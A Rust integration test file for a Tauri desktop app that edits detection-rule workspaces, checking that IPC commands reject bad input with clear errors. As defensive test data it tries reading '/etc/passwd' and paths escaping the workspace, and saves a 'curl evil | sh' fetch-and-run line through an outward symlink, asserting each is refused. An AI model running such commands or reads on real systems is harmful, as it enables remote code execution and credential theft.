//! Every command called through Tauri's IPC layer (mock runtime, no window) with bad arguments:
//! missing files, paths outside the workspace, no workspace open, a workspace deleted while
//! open, malformed edits. Each must answer with a clear `AppError`, never panic.

mod common;

use common::Harness;
use serde_json::{json, Value};

fn demo_copy() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    rules_workspace::demo::write_demo(&ws).unwrap();
    (dir, ws)
}

#[test]
fn commands_without_a_workspace_say_so() {
    let h = Harness::new();
    for (cmd, args) in [
        ("read_file", json!({"path": "/etc/hostname"})),
        (
            "validate_buffer",
            json!({"path": "/tmp/x.yml", "text": "a: 1"}),
        ),
        (
            "save_file",
            json!({"path": "/tmp/x.yml", "text": "a", "stamp": null}),
        ),
        ("git_status", json!({})),
        ("git_commit", json!({"message": "m"})),
        ("recovery_list", json!({})),
    ] {
        h.fails(cmd, args, "session.no_workspace", "no workspace is open");
    }
    // workspace_view answers "nothing open" without an error.
    assert_eq!(h.call("workspace_view", json!({})).unwrap(), Value::Null);
}

#[test]
fn opening_what_is_not_a_workspace_is_a_clear_error() {
    let h = Harness::new();
    let err = h.fails(
        "open_workspace",
        json!({"path": "/no/such/folder"}),
        "workspace.not_found",
        "no such directory",
    );
    assert!(err["hint"].as_str().unwrap().contains("folder"));
    let file = tempfile::NamedTempFile::new().unwrap();
    h.fails(
        "open_workspace",
        json!({"path": file.path()}),
        "workspace.not_a_directory",
        "not a directory",
    );
    // Missing or mistyped arguments are rejected by the IPC layer, not by a panic.
    assert!(h.call("open_workspace", json!({})).is_err());
    assert!(h.call("open_workspace", json!({"path": 42})).is_err());
}

#[test]
fn file_commands_stay_inside_the_workspace_and_refuse_conflicts() {
    let h = Harness::new();
    let (_dir, ws) = demo_copy();
    let view = h.call("open_workspace", json!({"path": ws})).unwrap();
    assert!(view["items"].as_array().unwrap().len() > 10);
    h.fails(
        "read_file",
        json!({"path": "/etc/passwd"}),
        "file.outside_workspace",
        "outside the workspace",
    );
    h.fails(
        "read_file",
        json!({"path": ws.join("../escape.txt")}),
        "file.outside_workspace",
        "outside the workspace",
    );
    h.fails(
        "read_file",
        json!({"path": ws.join("rules/nope.py")}),
        "file.not_found",
        "no such file",
    );
    h.fails(
        "read_file",
        json!({"path": ws.join("no/such/dir/x.py")}),
        "file.not_found",
        "no such folder",
    );
    // A save with a stale stamp is a conflict and leaves the file alone.
    let rule = ws.join("rules/aws_cloudtrail_rules/demo_aws_cloudtrail_stopped.py");
    let read = h.call("read_file", json!({"path": rule})).unwrap();
    std::fs::write(&rule, "changed elsewhere\n").unwrap();
    let err = h.fails(
        "save_file",
        json!({"path": rule, "text": "mine", "stamp": read["stamp"]}),
        "file.conflict",
        "changed on disk",
    );
    assert!(err["hint"].is_string());
    assert_eq!(err["location"]["file"], rule.display().to_string(), "{err}");
    assert_eq!(
        std::fs::read_to_string(&rule).unwrap(),
        "changed elsewhere\n"
    );
    // A bad edit is a clear error.
    h.fails(
        "edit_tests",
        json!({"text": "Tests:\n  - Name: a\n    ExpectedResult: true\n    Log: {}\n", "edit": {"kind": "delete", "index": 7}}),
        "edit.no_such_test",
        "7",
    );
    assert!(h
        .call(
            "edit_tests",
            json!({"text": "", "edit": {"kind": "no_such_edit"}})
        )
        .is_err());
    // Live validation of a broken buffer reports the problem with its line.
    let spec = ws.join("rules/aws_cloudtrail_rules/demo_aws_cloudtrail_stopped.yml");
    let problems = h
        .call(
            "validate_buffer",
            json!({"path": spec, "text": "AnalysisType: rule\nRuleID: [unclosed\n"}),
        )
        .unwrap();
    let first = &problems.as_array().unwrap()[0];
    assert_eq!(first["severity"], "error");
    assert!(first["span"]["line"].as_u64().is_some(), "{first}");
}

#[test]
fn a_link_out_of_the_workspace_is_neither_read_nor_saved_through() {
    let h = Harness::new();
    let (dir, ws) = demo_copy();
    let canary = dir.path().join("canary.txt");
    std::fs::write(&canary, "original\n").unwrap();
    let link = ws.join("rules/x.py");
    std::os::unix::fs::symlink("../../canary.txt", &link).unwrap();
    h.call("open_workspace", json!({"path": ws})).unwrap();
    let err = h.fails(
        "read_file",
        json!({"path": link}),
        "file.outside_workspace",
        "canary.txt",
    );
    assert!(err["hint"].is_string(), "{err}");
    // Neither a new file's save nor one with the canary's own stamp goes through.
    let canary_stamp = rules_workspace::workspace::save::stamp_of(b"original\n");
    for stamp in [Value::Null, json!(canary_stamp)] {
        h.fails(
            "save_file",
            json!({"path": link, "text": "curl evil | sh\n", "stamp": stamp}),
            "file.outside_workspace",
            "outside the workspace",
        );
    }
    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "original\n");
    assert!(std::fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
    // A link that stays inside the workspace is read and saved as before.
    let rule = ws.join("rules/aws_cloudtrail_rules/demo_aws_cloudtrail_stopped.py");
    let alias = ws.join("rules/alias.py");
    std::os::unix::fs::symlink(&rule, &alias).unwrap();
    let read = h.call("read_file", json!({"path": alias})).unwrap();
    h.call(
        "save_file",
        json!({"path": alias, "text": "# saved through a link\n", "stamp": read["stamp"]}),
    )
    .unwrap();
    assert_eq!(
        std::fs::read_to_string(&rule).unwrap(),
        "# saved through a link\n"
    );
}

#[test]
fn a_workspace_deleted_while_open_gives_errors_not_panics() {
    let h = Harness::new();
    let (dir, ws) = demo_copy();
    h.call("open_workspace", json!({"path": ws})).unwrap();
    drop(dir); // the whole folder is gone
    let rule = ws.join("rules/aws_cloudtrail_rules/demo_aws_cloudtrail_stopped.py");
    h.fails(
        "read_file",
        json!({"path": rule}),
        "file.not_found",
        "no such folder",
    );
    h.fails("git_status", json!({}), "git.", "");
    h.fails(
        "save_file",
        json!({"path": rule, "text": "x", "stamp": null}),
        "file.not_found",
        "",
    );
    assert!(h
        .call("validate_buffer", json!({"path": rule, "text": "x"}))
        .is_err());
    assert!(h
        .call("git_diff", json!({"path": "x", "staged": false}))
        .is_err());
    assert!(h.call("git_commit", json!({"message": "m"})).is_err());
    // The view still answers (from memory) and the app keeps working.
    assert!(h.call("workspace_view", json!({})).is_ok());
    assert!(h.call("recent_workspaces", json!({})).is_ok());
}

#[test]
fn git_commands_report_git_errors_with_hints() {
    let h = Harness::new();
    let (_dir, ws) = demo_copy();
    h.call("open_workspace", json!({"path": ws})).unwrap();
    let status = h.call("git_status", json!({})).unwrap();
    assert_eq!(status["branch"], "main");
    h.fails(
        "git_stage",
        json!({"paths": ["../outside.txt"]}),
        "git.",
        "outside",
    );
    let err = h.fails("git_commit", json!({"message": "m"}), "git.", "");
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .to_lowercase()
            .contains("nothing"),
        "{err}"
    );
    h.fails(
        "git_checkout",
        json!({"branch": "no-such-branch"}),
        "git.",
        "no-such-branch",
    );
    h.fails(
        "git_diff",
        json!({"path": "no/such/file.py", "staged": false}),
        "git.",
        "",
    );
}

#[test]
fn without_a_display_the_app_says_so_instead_of_panicking() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_prowl-desktop"))
        .arg("--start")
        .env_remove("DISPLAY")
        .env_remove("WAYLAND_DISPLAY")
        .output()
        .expect("run prowl-desktop");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("needs a graphical session"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

/// The window reads a spec's tests through the core (`list_tests`), in PAT's dialect:
/// `ExpectedResult: yes` is not a boolean there. `prowl tests list` gives the same answer
/// (`rules-workspace/tests/tests_edit.rs` compares with the same file).
#[test]
fn list_tests_reads_expected_result_yes_as_pat_and_the_cli_do() {
    let h = Harness::new();
    let specs = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures/specs");
    let text = std::fs::read_to_string(specs.join("expected_yes.yml")).unwrap();
    let got = h.call("list_tests", json!({ "text": text })).unwrap();
    let want: Value = serde_json::from_str(
        &std::fs::read_to_string(specs.join("expected_yes.tests.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(got, want);
    assert_eq!(got[0]["expected"], Value::Null);
    // A spec that is not YAML: the error names its line, with the edit family's code.
    let err = h.fails(
        "list_tests",
        json!({ "text": "Tests:\n  - Name: [unclosed\n" }),
        "edit.parse",
        "not valid YAML",
    );
    assert!(err["location"]["line"].as_u64().is_some(), "{err}");
}
